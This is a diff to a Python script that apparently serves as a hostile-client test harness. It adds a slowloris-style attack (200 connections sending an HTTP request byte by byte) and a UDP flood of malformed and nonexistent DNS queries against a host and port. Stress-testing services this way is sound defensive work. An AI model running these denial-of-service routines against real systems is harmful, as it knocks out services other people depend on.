@@ -1,4 +1,4 @@
-"""A client of a Unix socket that means harm. It runs in a container or on the host, so it uses the standard library only.
+"""A client of a Unix socket, or of a port, that means harm. It uses the standard library only: it runs in containers, too.
 
 Usage: python3 socket_attacks.py SOCKET ATTACK
 """
@@ -56,6 +56,32 @@ def flood(path: str, first: bytes = b"") -> None:
 
 def half_open(path: str) -> None:
     flood(path, b'{"secret":')
+
+
+def slow(path: str) -> None:
+    """Requests that come byte by byte, on many connections."""
+    socks: list[socket.socket] = []
+    with contextlib.suppress(OSError):
+        while len(socks) < 200:
+            socks.append(connect(path))
+    for byte in b"GET /metrics HTTP/1.1\r\nX: " + b"x" * 40:
+        for sock in socks:
+            with contextlib.suppress(OSError):
+                sock.send(bytes((byte,)))
+        time.sleep(0.02)
+
+
+def datagrams(path: str) -> None:
+    """DNS queries over UDP as fast as possible: names of the cluster, names that do not exist, and nonsense."""
+    host, _, port = path.rpartition(":")
+    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+    sock.setblocking(False)
+    names = (b"\nkubernetes\7default\3svc\7cluster\5local\0", b"\7nothing\7example\0", b"\xc0\x0c", b"\x3f" * 200)
+    for number in range(100_000):
+        query = struct.pack("!6H", number & 0xFFFF, 0x100, 1, 0, 0, 0) + names[number % len(names)] + b"\0\1\0\1"
+        with contextlib.suppress(OSError):
+            sock.sendto(query, (host, int(port)))
+            sock.recv(65535)
 
 
 def endless(path: str) -> None:
@@ -119,9 +145,11 @@ def _send_lingering(path: str, server: tuple[str, int], message: bytes, count: i
 
 
 ATTACKS = (flood, half_open, endless, garbage, descriptors, unread)
+OF_PORTS = (flood, half_open, slow, endless, garbage, unread)
+"""Attacks that need no Unix socket."""
 
 if __name__ == "__main__":
     sys.stdout.write("attacks\n")
     sys.stdout.flush()
-    {each.__name__: each for each in (*ATTACKS, lingering)}[sys.argv[2]](sys.argv[1])
+    {each.__name__: each for each in (*ATTACKS, *OF_PORTS, datagrams, lingering)}[sys.argv[2]](sys.argv[1])
     sys.stdout.write("done\n")
